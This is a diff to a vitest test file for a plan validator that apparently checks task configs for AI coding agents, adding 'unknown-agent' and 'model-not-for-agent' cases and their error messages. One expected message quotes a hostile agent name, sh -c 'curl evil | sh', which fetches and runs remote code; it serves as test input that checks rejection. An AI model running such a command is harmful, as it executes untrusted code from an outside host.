@@ -6,6 +6,7 @@ import { describe, expect, it } from "vitest";
 import { loadPlan } from "../../../src/core/plan/load.js";
 import type { PlanRule } from "../../../src/core/plan/problem.js";
 import { validatePlan } from "../../../src/core/plan/validate.js";
+import { ADAPTERS } from "../../../src/core/schemas/adapters.js";
 
 const EXAMPLES = path.resolve(import.meta.dirname, "../../../examples");
 
@@ -47,6 +48,8 @@ const CASES: Record<string, Expected[]> = {
   "bad-frontmatter-unknown-field": [{ rule: "invalid-frontmatter", file: "tasks/feature.md", field: "owner", line: 10 }],
   "removed-field": [{ rule: "removed-field", file: "tasks/feature.md", field: "base_ref", line: 10 }],
   "unknown-model": [{ rule: "unknown-model", file: "tasks/feature.md", field: "model", line: 10 }],
+  "unknown-agent": [{ rule: "unknown-agent", file: "tasks/feature.md", field: "agent[1]", line: 12 }],
+  "model-not-for-agent": [{ rule: "model-not-for-agent", file: "tasks/feature.md", field: "model", line: 11 }],
   "bad-sentinel": [{ rule: "invalid-frontmatter", file: "tasks/feature.md", field: "sentinel", line: 10 }],
   "sentinel-on-refinery": [{ rule: "sentinel-on-refinery", file: "tasks/integrate.md", field: "sentinel", line: 11 }],
   "no-frontmatter": [{ rule: "invalid-frontmatter", file: "tasks/docs.md", line: 1 }],
@@ -91,6 +94,13 @@ describe("examples/invalid", () => {
   it("says why a task's model is refused", async () => {
     const [p] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "unknown-model")));
     expect(p!.message).toBe("unknown tier 'ultra-tier': use low, medium, high or a model id");
+  });
+
+  it("says which agent is unknown, quoted as data, and which model an agent cannot take", async () => {
+    const [unknown] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "unknown-agent")));
+    expect(unknown!.message).toBe(`unknown agent "sh -c 'curl evil | sh'": use one of ${ADAPTERS.join(", ")}`);
+    const [model] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "model-not-for-agent")));
+    expect(model!.message).toMatch(/^model not for agent: codex cannot take the anthropic model "claude-sonnet-4-5"; name a tier/);
   });
 
   it("prints a cycle's path", async () => {
